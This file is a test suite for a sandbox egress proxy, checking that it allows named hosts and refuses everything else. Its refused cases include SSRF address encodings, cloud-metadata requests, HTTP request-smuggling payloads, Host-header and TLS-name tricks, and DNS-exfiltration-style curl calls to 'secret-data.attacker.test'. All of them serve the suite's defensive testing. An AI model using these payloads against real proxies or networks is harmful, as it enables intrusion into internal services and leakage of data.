// The egress of a sandbox: the requests that the proxy lets through, and all those that it must refuse.
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { openBrowser } from '../../sandbox/browser/open-browser.ts';
import { withEnvironment } from '../../sandbox/with-environment.ts';
import { type EgressFixture, openEgressFixture, type Ports } from './egress-fixture.ts';

const CURL = 'curl -s -S -m 30';
const PROXY = '127.0.0.1:39128';

describe('a sandbox with egress', () => {
  let stage: EgressFixture;
  let ports: Ports;

  const raw = (request: string): string =>
    // Open for a moment: a connection whose end has come is not worked on any more.
    `(printf '${request.replaceAll('\n', '\\r\\n')}'; sleep 0.3) | timeout 5 socat - TCP:${PROXY}`;

  /** One that is answered, and open until it is, however long that takes. */
  const rawToItsEnd = (request: string): string =>
    `printf '${request.replaceAll('\n', '\\r\\n')}' | timeout 30 socat -t 30 STDIO,ignoreeof TCP:${PROXY}`;

  beforeAll(async () => {
    stage = await openEgressFixture(
      'egress',
      ['allowed.test', 'other.test', 'read.test'],
      (request, response) => {
        if (request.url === '/redirect') response.writeHead(302, { location: 'http://inside.test/' });
        if (request.url === '/redirect-mapped')
          response.writeHead(302, { location: `http://[::ffff:127.0.0.1]:${ports.plain}/` });
        response.end('reached');
      },
    );
    ports = stage.ports;
    const local = ['127.0.0.1'];
    const known: Record<string, readonly string[]> = {
      'allowed.test': local,
      'other.test': local,
      'read.test': local,
      'inside.test': local,
      'private.test': ['10.0.0.7'],
      'mixed.test': ['93.184.216.34', '127.0.0.1'],
      'metadata.test': ['169.254.169.254'],
      'mapped.test': ['::ffff:127.0.0.1'],
      'translated.test': ['64:ff9b::7f00:1'],
      'loop6.test': ['::1'],
      'shared.test': ['100.64.0.1'],
      'lan.test': ['169.254.1.1'],
    };
    for (const [name, addresses] of Object.entries(known)) stage.names.set(name, addresses);
    const own = [ports.plain, ports.tls];
    const inside =
      'inside.test private.test mixed.test metadata.test mapped.test translated.test loop6.test shared.test ' +
      '127.0.0.1 169.254.169.254 2130706433 0x7f000001 0177.0.0.1 127.1 ::1 ::ffff:127.0.0.1';
    await stage.open(
      {
        rules: [
          { host: 'allowed.test', ports: own, reach: 'anywhere' },
          { host: 'read.test', ports: own, methods: ['GET'], reach: 'anywhere' },
          { host: 'lan.test', ports: own, reach: 'private' },
          ...inside.split(' ').map((host) => ({ host, ports: [80, 443, ...own] })),
        ],
      },
      stage.certificate,
    );
  });
  beforeEach(() => stage.forget());
  afterAll(() => stage.close());

  test('reaches a named host by HTTP and by TLS, and each request is reported with its size', async () => {
    const plain = await stage.run(`${CURL} 'http://allowed.test:${ports.plain}/a?b=c'`);
    expect(plain).toEqual({ code: 0, text: 'reached' });
    const tls = await stage.run(`${CURL} https://allowed.test:${ports.tls}/x`);
    expect(tls).toEqual({ code: 0, text: 'reached' });
    expect(stage.seen.map(({ url }) => url)).toEqual(['/a?b=c', '/x']);
    expect(stage.reports).toEqual([
      { method: 'GET', host: 'allowed.test', port: ports.plain, path: '/a', refused: null },
      { method: 'CONNECT', host: 'allowed.test', port: ports.tls, refused: null },
    ]);
    expect(stage.lookups).toEqual(['allowed.test', 'allowed.test']);
    await expect
      .poll(() => stage.ended.map(({ traffic }) => traffic))
      .toMatchObject([
        { status: 200, sentBytes: 0, receivedBytes: 7 },
        { status: null, receivedBytes: expect.any(Number) },
      ]);
  });

  test('reads the requests to a host whose methods are restricted, trusted by the sandbox', async () => {
    expect(await stage.run(`${CURL} https://read.test:${ports.tls}/page`)).toEqual({
      code: 0,
      text: 'reached',
    });
    expect(stage.reports).toEqual([
      { method: 'GET', host: 'read.test', port: ports.tls, path: '/page', refused: null },
    ]);
  });

  test('Node, Python, curl and git find the way, and trust the proxy, by themselves', async () => {
    const url = `https://read.test:${ports.tls}`;
    const lines = [
      `node -e "fetch('${url}/node').then(r=>r.text()).then(t=>console.log(t))"`,
      `node -e "fetch('http://allowed.test:${ports.plain}/plain-node').then(r=>r.text()).then(t=>console.log(t))"`,
      `python3 -c "import urllib.request as u; print(u.urlopen('${url}/py').read())"`,
    ];
    for (const line of lines) expect((await stage.run(line)).text).toContain('reached');
    await stage.run(`git ls-remote ${url}/repo.git`);
    expect(stage.seen.slice(0, 4).map(({ url: path }) => path.split('?')[0])).toEqual([
      '/node',
      '/plain-node',
      '/py',
      '/repo.git/info/refs',
    ]);
  });

  const tunnelThenPlain = (host: string, send = raw): string =>
    send(
      `CONNECT allowed.test:${ports.plain} HTTP/1.1\nHost: allowed.test\n\nGET /tunnel HTTP/1.1\nHost: ${host}\nConnection: close\n\n`,
    );

  test('plain HTTP in a tunnel is read like any other', async () => {
    expect((await stage.run(tunnelThenPlain(`allowed.test:${ports.plain}`, rawToItsEnd))).text).toContain(
      'reached',
    );
    expect(stage.reports.map(({ method, path }) => [method, path])).toEqual([['GET', '/tunnel']]);
  });

  test.each<[string, () => string]>([
    ['a host that is not named', () => `${CURL} --fail http://other.test:${ports.plain}/`],
    ['a host that is not named, by TLS', () => `${CURL} https://other.test:${ports.tls}/`],
    ['a port that is not named', () => `${CURL} -p http://allowed.test:${ports.raw}/`],
    ['the host of the worker on another port', () => `${CURL} -p http://inside.test:2375/`],
    ['a named host whose name leads inside', () => `${CURL} --fail http://inside.test:${ports.plain}/`],
    ['a tunnel to a name that leads inside', () => `${CURL} -p http://inside.test:${ports.plain}/`],
    ['a tunnel to a private range', () => `${CURL} -p https://private.test/`],
    ['a name with one address inside', () => `${CURL} -p http://mixed.test:${ports.plain}/`],
    ['the metadata service by a name', () => `${CURL} --fail http://metadata.test/`],
    ['an address shared by a carrier', () => `${CURL} --fail http://shared.test/`],
    ['link-local where private networks are allowed', () => `${CURL} --fail http://lan.test:${ports.plain}/`],
    ['an address mapped into IPv6', () => `${CURL} -p http://mapped.test:${ports.plain}/`],
    ['an address translated into IPv6', () => `${CURL} -p http://translated.test:${ports.plain}/`],
    ['loopback in IPv6 by a name', () => `${CURL} -p http://loop6.test:${ports.plain}/`],
    ['loopback by its address', () => `${CURL} --fail --noproxy '' http://127.0.0.1:${ports.plain}/`],
    ['the metadata service by its address', () => `${CURL} --fail http://169.254.169.254/`],
    ['loopback as a decimal number', () => raw(`CONNECT 2130706433:${ports.plain} HTTP/1.1\n\n`) + FAILS],
    ['loopback as a hexadecimal number', () => raw(`CONNECT 0x7f000001:${ports.plain} HTTP/1.1\n\n`) + FAILS],
    ['loopback in octal', () => raw(`GET http://0177.0.0.1:${ports.plain}/ HTTP/1.1\nHost: x\n\n`) + FAILS],
    ['loopback in short', () => raw(`GET http://127.1:${ports.plain}/ HTTP/1.1\nHost: x\n\n`) + FAILS],
    ['loopback in IPv6', () => raw(`CONNECT [::1]:${ports.plain} HTTP/1.1\n\n`) + FAILS],
    ['loopback mapped', () => raw(`CONNECT [::ffff:127.0.0.1]:${ports.plain} HTTP/1.1\n\n`) + FAILS],
    [
      'a tunnel that asks TLS for another name',
      () =>
        `${CURL} --connect-to other.test:${ports.tls}:allowed.test:${ports.tls} https://other.test:${ports.tls}/`,
    ],
    [
      'a tunnel to a read host that asks for another name',
      () =>
        `${CURL} --connect-to other.test:${ports.tls}:read.test:${ports.tls} https://other.test:${ports.tls}/`,
    ],
    [
      'a tunnel without a name',
      () => `openssl s_client -proxy ${PROXY} -connect allowed.test:${ports.tls} -noservername < /dev/null`,
    ],
    [
      'another Host header in a read tunnel',
      () => `${CURL} --fail -H 'Host: other.test' https://read.test:${ports.tls}/`,
    ],
    ['another Host header in a plain tunnel', () => tunnelThenPlain('other.test') + FAILS],
    ['a method that is not named', () => `${CURL} --fail -X POST -d x http://read.test:${ports.plain}/`],
    [
      'a method that is not named, by TLS',
      () => `${CURL} --fail -X POST -d x https://read.test:${ports.tls}/`,
    ],
    ['a method in other letters', () => `${CURL} --fail -X get https://read.test:${ports.tls}/`],
    [
      'bytes that are no HTTP to a read host',
      () => raw(`CONNECT read.test:${ports.tls} HTTP/1.1\n\nhello\n\n`) + FAILS,
    ],
    ['a name in another user part', () => `${CURL} --fail http://allowed.test:x@other.test:${ports.plain}/`],
    ['another scheme', () => `${CURL} --fail -x http://${PROXY} ftp://allowed.test:${ports.plain}/`],
    [
      'https without a tunnel',
      () => raw(`GET https://allowed.test:${ports.tls}/ HTTP/1.1\nHost: x\n\n`) + FAILS,
    ],
    ['a path without a host', () => raw(`GET / HTTP/1.1\nHost: allowed.test:${ports.plain}\n\n`) + FAILS],
    [
      'a line break in the target',
      () => raw(`GET http://allowed.test:${ports.plain}/a\nX: y HTTP/1.1\nHost: x\n\n`) + FAILS,
    ],
    ['a line break in the host', () => raw(`CONNECT allowed.test\n:${ports.plain} HTTP/1.1\n\n`) + FAILS],
    ['a length and chunks at once', () => smuggled('Content-Length: 5\nTransfer-Encoding: chunked') + FAILS],
    ['two lengths', () => smuggled('Content-Length: 5\nContent-Length: 6') + FAILS],
    ['chunks in other words', () => smuggled('Transfer-Encoding: xchunked') + FAILS],
    ['a folded header', () => smuggled('X: a\n Transfer-Encoding: chunked\nContent-Length: -1') + FAILS],
    [
      'headers without an end',
      () =>
        `(printf 'GET http://allowed.test:${ports.plain}/ HTTP/1.1\\r\\nX: '; head -c 200000 /dev/zero | tr '\\0' a; printf '\\r\\n\\r\\n') | timeout 5 socat - TCP:${PROXY}${FAILS}`,
    ],
    ['a name below a named host', () => `${CURL} --fail http://c2VjcmV0.allowed.test:${ports.plain}/`],
  ])('%s is not reached', async (_what, line) => {
    const { code, text } = await stage.run(line());
    expect([code === 0 ? text : '', stage.seen]).toEqual(['', []]);
  });

  /** Of a raw exchange: it counts as failed unless a server answered. */
  const FAILS = " | grep -q '^reached\\|^raw' && echo reached";

  function smuggled(framing: string): string {
    return raw(
      `POST http://allowed.test:${ports.plain}/first HTTP/1.1\nHost: x\n${framing}\n\n0\n\nGET http://other.test:${ports.plain}/ HTTP/1.1\nHost: x\n\n`,
    );
  }

  test('names that no rule has are not even looked up: a name is a message', async () => {
    const name = 'secret-data.attacker.test';
    await stage.run(`${CURL} http://${name}/; ${CURL} https://${name}/; ${CURL} http://x.${name}/`);
    expect(stage.lookups).toEqual([]);
    expect(stage.reports.map(({ refused }) => refused === null)).toEqual([false, false, false]);
  });

  test.each([
    ['/redirect', 'public internet'],
    ['/redirect-mapped', 'not on the repo'],
  ])('a redirect (%s) is checked as a request of its own', async (path, why) => {
    await stage.run(`${CURL} -L http://allowed.test:${ports.plain}${path}`);
    expect(stage.seen.map(({ url }) => url)).toEqual([path]);
    expect(stage.reports.at(-1)?.refused).toContain(why);
  });

  test('the Host header does not decide where a request to the proxy goes', async () => {
    const target = `http://allowed.test:${ports.plain}/`;
    await stage.run(
      rawToItsEnd(`GET ${target} HTTP/1.1\nHost: other.test:${ports.plain}\nConnection: close\n\n`),
    );
    expect(stage.seen.map(({ host }) => host)).toEqual([`allowed.test:${ports.plain}`]);
  });

  test('an escaped line break in a target stays one', async () => {
    const path = '/a%0d%0aX:%20y%0d%0a%0d%0aGET%20/b';
    await stage.run(
      `${CURL} http://allowed.test:${ports.plain}${path} https://read.test:${ports.tls}${path}`,
    );
    expect(stage.seen.map(({ url, headers }) => [url, headers['x']])).toEqual([
      [path, undefined],
      [path, undefined],
    ]);
  });

  test('a body whose framing is taken away does not become a second request', async () => {
    const hidden = `POST /smuggled HTTP/1.1\nHost: read.test:${ports.plain}\nContent-Length: 0\n\n`;
    const chunk = `${(hidden.length + 6).toString(16)}\n${hidden}\n0\n\n`;
    for (const named of ['transfer-encoding', 'content-length, transfer-encoding, host']) {
      const head = `GET http://read.test:${ports.plain}/first HTTP/1.1\nHost: x\nTransfer-Encoding: chunked\nConnection: ${named}\n\n`;
      await stage.run(`${raw(head + chunk)} | cat`);
    }
    expect(stage.seen.filter(({ url, method }) => url === '/smuggled' || method !== 'GET')).toEqual([]);
  });

  test('what follows a refused request on the same connection is checked by itself', async () => {
    const first = `GET http://other.test:${ports.plain}/1 HTTP/1.1\nHost: x\n\n`;
    const second = `GET http://inside.test:${ports.plain}/2 HTTP/1.1\nHost: x\n\n`;
    await stage.run(`${raw(first + second)} | cat`);
    expect(stage.seen).toEqual([]);
  });

  test('nothing is reached around the proxy', async () => {
    for (const line of [
      `curl -s -m 2 --noproxy '*' http://127.0.0.1:${ports.plain}/`,
      `curl -s -m 2 --noproxy '*' http://allowed.test:${ports.plain}/`,
      `python3 -c "import socket; socket.create_connection(('127.0.0.1', ${ports.plain}), 2)"`,
      `python3 -c "import socket; socket.create_connection(('1.1.1.1', 443), 2)"`,
      `python3 -c "import socket; socket.getaddrinfo('allowed.test', 80)"`,
    ]) {
      expect((await stage.run(line, {})).code).not.toBe(0);
    }
    expect(stage.seen).toEqual([]);
  });

  test('garbage and half requests do no harm', async () => {
    for (const attempt of [
      "printf 'CONNECT\\r\\n\\r\\n'",
      'head -c 300000 /dev/urandom',
      'head -c 3 /dev/zero',
    ])
      await stage.run(`(${attempt}) | timeout 3 socat - TCP:${PROXY} > /dev/null`);
    expect(stage.seen).toEqual([]);
    const after = await stage.run(`${CURL} http://allowed.test:${ports.plain}/after`);
    expect(after).toEqual({ code: 0, text: 'reached' });
  });

  test('a name that changes its address is reached at the one that was checked, and checked the next time', async () => {
    stage.names.set('inside.test', ['93.184.216.34']);
    stage.names.set('rebound.test', ['127.0.0.1']);
    const rules = [
      { host: 'rebound.test', ports: [ports.plain, ports.tls], reach: 'anywhere' as const },
      { host: 'read.test', ports: [ports.tls], methods: ['GET'], reach: 'anywhere' as const },
    ];
    await stage.open({ rules }, stage.certificate);
    expect((await stage.run(`${CURL} http://rebound.test:${ports.plain}/1`)).text).toBe('reached');
    expect(stage.lookups).toEqual(['rebound.test']);
    // Two requests in one tunnel: one look at the name.
    const url = `https://read.test:${ports.tls}`;
    expect((await stage.run(`${CURL} ${url}/2 ${url}/3`)).text).toBe('reachedreached');
    expect(stage.lookups).toEqual(['rebound.test', 'read.test']);
    await stage.open({ rules: rules.map(({ reach: _any, ...rule }) => rule) }, stage.certificate);
    stage.forget();
    expect((await stage.run(`${CURL} --fail http://rebound.test:${ports.plain}/`)).code).not.toBe(0);
    expect(stage.seen).toEqual([]);
  });

  test('pages in the browser of the sandbox take the same way, and no other', async () => {
    stage.names.set('inside.test', ['127.0.0.1']);
    const rules = [
      { host: 'allowed.test', ports: [ports.plain], reach: 'anywhere' as const },
      { host: 'inside.test', ports: [ports.plain] },
    ];
    const { env } = await stage.open({ rules });
    const sandbox = withEnvironment(stage.sandbox, env, async () => {});
    const from = (host: string): string => `<img src="http://${host}:${ports.plain}/${host}.png">`;
    const page = ['allowed.test', 'other.test', 'inside.test', '127.0.0.1'].map(from).join('');
    await sandbox.write('/work/page/index.html', new TextEncoder().encode(page));
    await sandbox.start({ id: 'pages', argv: ['python3', '-m', 'http.server', '8765'], cwd: '/work/page' });
    (await sandbox.connect(8765, 10_000)).destroy();
    const browser = await openBrowser(sandbox);
    await browser.capture({ url: 'http://localhost:8765/' });
    await browser.close();
    expect(stage.seen.map(({ url }) => url)).toEqual(['/allowed.test.png']);
  });

  test('bytes and names have an end', async () => {
    const rules = [{ host: '*.allowed.test', ports: [ports.plain], reach: 'anywhere' as const }];
    await stage.open({ rules, maxBytes: 20 });
    for (let index = 0; index < 210; index += 1) stage.names.set(`n${index}.allowed.test`, ['127.0.0.1']);
    const ask = `for i in $(seq 0 205); do echo "url=http://n$i.allowed.test:${ports.plain}/"; done | ${CURL} -o /dev/null -K -`;
    await stage.run(ask);
    expect(stage.seen).toHaveLength(3);
    expect(stage.reports.at(-1)?.refused).toContain('network_mb');
    await stage.open({ rules });
    stage.forget();
    await stage.run(ask);
    expect(stage.seen).toHaveLength(200);
    expect(stage.reports.at(-1)?.refused).toContain('names');
  });
});
